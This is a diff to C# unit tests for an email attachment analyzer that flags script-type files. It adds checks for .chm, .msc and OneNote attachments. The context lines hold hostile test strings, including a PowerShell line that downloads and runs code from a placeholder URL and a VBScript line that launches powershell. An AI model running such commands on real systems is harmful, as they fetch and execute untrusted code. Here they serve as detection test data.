@@ -79,6 +79,9 @@ public class AttachmentAnalyzerTests
     [InlineData("Invoice.vbs", "CreateObject(\"WScript.Shell\").Run \"powershell\"")]
     [InlineData("doc.hta", "<html><script language=vbscript>x</script></html>")]
     [InlineData("run.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x')")]
+    [InlineData("Invoice.chm", "ITSF")]
+    [InlineData("Report.msc", "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\">")]
+    [InlineData("Remittance.one", "onenote")]
     public void Analyze_WhenScript_EmitsScript(string name, string content)
     {
         Assert.Contains(AttachmentSignals.Script, Analyze(name, Encoding.ASCII.GetBytes(content)).Signals());
